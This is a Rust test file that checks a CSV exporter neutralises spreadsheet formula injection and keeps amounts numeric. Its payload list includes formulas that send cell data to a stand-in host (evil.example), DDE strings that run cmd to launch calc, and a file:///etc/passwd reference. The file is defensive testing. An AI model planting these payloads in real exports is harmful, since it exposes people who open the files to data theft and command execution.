//! Hostile table cells: none may reach a spreadsheet as a formula, all come back as text, and amounts stay numbers.

use countersign_render::file::csv::{Cell, CsvFile, Dialect};

/// Payloads of every kind that spreadsheets are known to run, one for each line of defence.
const HOSTILE: &[&str] = &[
    "=1+1",
    "=1+1\";=1+1",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=IMPORTDATA(\"https://evil.example\")",
    "=IMAGE(\"https://evil.example/p.png\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=EXEC(\"calc\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",0)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=(1)",
    "==1",
    "=",
    "= 1",
    "=\"a\"",
    "=\u{0}1",
    "='file:///etc/passwd'#$passwd.A1",
    "=A1:A9",
    "={1,2}",
    "=-1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+HYPERLINK(\"x\")",
    "+",
    "+ 1",
    "+49 30 1234567",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "-cmd|' /C notepad'!A1",
    "- 5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "@",
    "@import",
    "@acme",
    "\t=1+1",
    "\ttext",
    "\t",
    "\r=1+1",
    "\rtext",
    "\n=1+1",
    "\ntext",
    "\r\n=1+1",
    "\n",
    "\u{0}=1+1",
    "\u{0}text",
    "\u{0}",
    " =1+1",
    "  =1+1",
    " +1",
    " -1",
    " @SUM(1)",
    " \t=1",
    " \n=1",
    " \u{0}=1",
    "\u{a0}=1+1",
    "\u{2003}=1+1",
    "\u{3000}=1+1",
    "\u{2009}@a",
    "\u{202f}-1",
    "\u{feff}=1+1",
    "\u{feff}+1",
    "\u{feff}\u{feff}-1",
    "\u{200b}=1+1",
    "\u{200b} \u{200b}=1",
    "\u{200c}@a",
    "\u{200d}+1",
    "\u{200e}=1",
    "\u{200f}=1",
    "\u{2060}=1",
    "\u{ad}=1",
    "\u{202e}=1+1",
    "\u{2066}=1+1",
    "\u{180e}=1",
    "\u{61c}-1",
    "\u{1}=1",
    "\u{b}=1",
    "\u{c}=1",
    "\u{1b}=1",
    "\u{7f}=1",
    "\u{85}=1",
    "\u{2028}=1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    " \u{ff1d}1",
    "\u{feff}\u{ff1d}1",
    "\u{200b}\u{ff20}a",
    "\u{fe66}1",
    "\u{fe62}1",
    "\u{fe63}1",
    "\u{fe6b}a",
    "\u{2212}1",
    "=1,2",
    "=1;2",
    "=\"\"\"\"",
    "-\",\"=1+1",
    "+\";=1",
    "@\r\n=1+1",
];

/// Texts that carry the danger behind a separator, a quote or a line break, where only quoting helps.
const HIDDEN: &[&str] =
    &["a,=1+1", "a;=1+1", "a\n=1+1", "a\r\n=1+1", "a\",=1+1", "a\",\"=1+1", "\"=1+1", "\"\n=1", "a\t=1"];

#[test]
fn no_hostile_cell_is_a_formula_and_every_one_comes_back() {
    assert!(HOSTILE.len() >= 80);
    for (dialect, separator) in
        [(Dialect::Plain, b','), (Dialect::Spreadsheet, b','), (Dialect::SpreadsheetComma, b';')]
    {
        let mut bytes = Vec::new();
        let mut file = CsvFile::begin(&mut bytes, dialect, &["name", "=header", "amount"]).unwrap();
        for text in HOSTILE.iter().chain(HIDDEN) {
            let amount = Cell::Number { value: -2_900, digits: 2 };
            file.row(&[Cell::text(*text), Cell::text("plain"), amount]).unwrap();
        }
        file.finish().unwrap();

        let mut reader = csv::ReaderBuilder::new().delimiter(separator).from_reader(bytes.as_slice());
        assert_eq!(reader.headers().unwrap().get(1), Some("'=header"));
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), HOSTILE.len() + HIDDEN.len());
        for (record, text) in records.iter().zip(HOSTILE) {
            assert_eq!(record.get(0), Some(format!("'{text}").as_str()), "{text:?}");
        }
        for (record, text) in records.iter().skip(HOSTILE.len()).zip(HIDDEN) {
            assert_eq!(record.get(0), Some(*text), "{text:?}");
        }
        let amount = if separator == b';' { "-29,00" } else { "-29.00" };
        assert!(records.iter().all(|record| record.get(1) == Some("plain") && record.get(2) == Some(amount)));
    }
}

#[test]
fn text_is_always_quoted_and_numbers_never() {
    let mut bytes = Vec::new();
    let mut file = CsvFile::begin(&mut bytes, Dialect::Plain, &["id", "count"]).unwrap();
    file.row(&[Cell::text("0012"), Cell::Number { value: 12, digits: 0 }]).unwrap();
    file.finish().unwrap();
    assert_eq!(String::from_utf8(bytes).unwrap(), "\"id\",\"count\"\r\n\"0012\",12\r\n");
}
